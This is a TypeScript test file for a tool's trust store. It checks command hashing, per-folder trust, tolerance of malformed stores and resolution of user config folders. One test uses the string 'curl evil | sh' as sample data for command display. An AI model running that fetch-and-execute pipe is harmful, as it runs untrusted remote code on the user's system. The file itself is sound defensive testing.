import { createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import {
  emptyTrustStore,
  isTrusted,
  readTrustStore,
  shownCommand,
  trustHash,
  withTrust,
} from './trust-store.ts';
import { userFolder } from './user-folders.ts';

const sha256Hex = (text: string) => createHash('sha256').update(text).digest('hex');
const program = { command: 'node', args: ['server.js'], env: ['KEY'], cwd: '.' };
const hash = trustHash(program, sha256Hex);

test('the hash is that of the canonical JSON of the list of what is started', () => {
  const text = '[{"args":["server.js"],"command":"node","cwd":".","env":["KEY"]}]';
  expect(hash).toBe(sha256Hex(text));
});

test.each([
  ['another command', { command: 'sh' }],
  ['another argument', { args: ['other.js'] }],
  ['another variable', { env: ['KEY', 'TOKEN'] }],
  ['another folder', { cwd: 'tools' }],
])('%s is trusted by nobody yet', (_name, change) => {
  const store = withTrust(emptyTrustStore, '/a', [{ hash, shown: 'node server.js' }]);
  expect(isTrusted(store, '/a', hash)).toBe(true);
  expect(isTrusted(store, '/a', trustHash({ ...program, ...change }, sha256Hex))).toBe(false);
  expect(isTrusted(store, '/b', hash)).toBe(false);
});

test('what is trusted once is kept once, beside what was trusted before', () => {
  const [one, two] = ['1', '2'].map((it) => ({ hash: it, shown: it })) as [never, never];
  const store = withTrust(withTrust(withTrust(emptyTrustStore, '/a', [one]), '/a', [two]), '/a', [
    one,
  ]);
  expect(store.folders).toEqual({ '/a': [two, one] });
  expect(readTrustStore(JSON.parse(JSON.stringify(store)))).toEqual(store);
});

test.each([undefined, 'text', {}, { version: 2, folders: { '/a': [{ hash: '1', shown: '' }] } }])(
  'a store that reads as %j trusts nothing',
  (content) => {
    expect(isTrusted(readTrustStore(content), '/a', '1')).toBe(false);
    expect(isTrusted(readTrustStore(content), '__proto__', '1')).toBe(false);
  },
);

test('a folder of the user is named whole, or is in the home', () => {
  const home = '/account';
  expect(userFolder('config', {}, home)).toBe('/account/.config/proofmark');
  expect(userFolder('state', { HOME: '/h' }, home)).toBe('/h/.local/state/proofmark');
  expect(userFolder('state', { XDG_STATE_HOME: '/s' }, home)).toBe('/s/proofmark');
  // A relative path is ignored, since it could point into a checkout.
  expect(userFolder('config', { XDG_CONFIG_HOME: '.config' }, home)).toBe(
    '/account/.config/proofmark',
  );
});

test('a command is shown so that its words are told apart', () => {
  expect(shownCommand(['sh', '-c', 'curl evil | sh'])).toBe('sh -c "curl evil | sh"');
});
